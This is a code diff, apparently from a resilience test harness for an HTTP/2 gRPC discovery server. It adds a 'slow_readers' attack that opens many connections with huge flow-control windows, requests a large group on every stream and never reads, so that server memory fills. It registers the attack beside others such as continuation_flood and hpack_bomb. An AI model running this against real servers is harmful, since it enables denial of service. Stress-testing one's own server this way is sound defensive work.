@@ -907,6 +907,46 @@ async def fill_table(
     return stats
 
 
+BIG_GROUP = "big"  # the group slow_readers asks for: the matrix's upstreams hold it for that case
+
+
+async def slow_readers(
+    port: int, src: str, seconds: float, connections: int = 40, streams: int = 100
+) -> dict[str, Any]:
+    """Connections that open windows of 1 GiB, ask for a big group on every stream, and never read
+    a byte: every response the server writes stays with it (in its buffers and the socket's)."""
+    deadline = time.monotonic() + seconds
+    setup = frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + OUR_WINDOW.to_bytes(4, "big")) + frame(
+        WINDOW_UPDATE, 0, 0, (OUR_WINDOW - 65535).to_bytes(4, "big")
+    )
+    request = grpc_message(discovery_request((BIG_GROUP,), node="slow-reader"))
+    conns: list[Conn] = []
+    stats = {"connections": 0, "streams": 0, "refused": 0}
+    try:
+        for _ in range(connections):
+            if time.monotonic() > deadline:
+                break
+            try:
+                conn = await Conn.open(port, src)
+                frames = [setup]
+                for _ in range(streams):
+                    sid, opening = conn.open_stream()
+                    frames += [opening, DataFrame(sid, data=request).serialize()]
+                await conn.send(b"".join(frames))
+            except (OSError, TimeoutError):
+                stats["refused"] += 1
+                continue
+            conn.writer.transport.pause_reading()  # not one byte read: the server's writes pile up
+            conns.append(conn)
+            stats["connections"] += 1
+            stats["streams"] += streams
+        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
+    finally:
+        for c in conns:
+            c.close()
+    return stats
+
+
 ATTACKS: dict[str, Callable[[int, str, float], Awaitable[dict[str, Any]]]] = {
     f.__name__: f
     for f in (
@@ -934,6 +974,7 @@ ATTACKS: dict[str, Callable[[int, str, float], Awaitable[dict[str, Any]]]] = {
         continuation_flood,
         hpack_bomb,
         drip_frames,
+        slow_readers,
     )
 }
 
